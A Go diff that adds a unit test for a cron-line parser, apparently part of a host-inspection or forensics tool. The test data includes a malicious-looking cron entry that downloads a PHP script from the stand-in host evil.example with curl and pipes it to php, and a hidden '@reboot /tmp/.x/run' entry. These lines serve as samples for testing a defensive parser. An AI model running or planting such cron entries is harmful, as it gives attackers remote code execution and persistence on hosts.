@@ -159,3 +159,19 @@ func BenchmarkProcesses(b *testing.B) {
 		Sockets(context.Background(), io.Discard)
 	}
 }
+
+func TestParseCron(t *testing.T) {
+	e, ok := parseCron("*/5 * * * * www-data curl -s https://evil.example/x.php | php", true)
+	if !ok || e.User != "www-data" || e.Schedule != "*/5 * * * *" || !strings.HasPrefix(e.Command, "curl -s") {
+		t.Fatalf("%+v", e)
+	}
+	e, ok = parseCron("@reboot /tmp/.x/run", false)
+	if !ok || e.Schedule != "@reboot" || e.Command != "/tmp/.x/run" {
+		t.Fatalf("%+v", e)
+	}
+	for _, l := range []string{"# comment", "", "SHELL=/bin/sh", "MAILTO=root", "* * *"} {
+		if _, ok := parseCron(l, true); ok {
+			t.Errorf("%q parsed", l)
+		}
+	}
+}
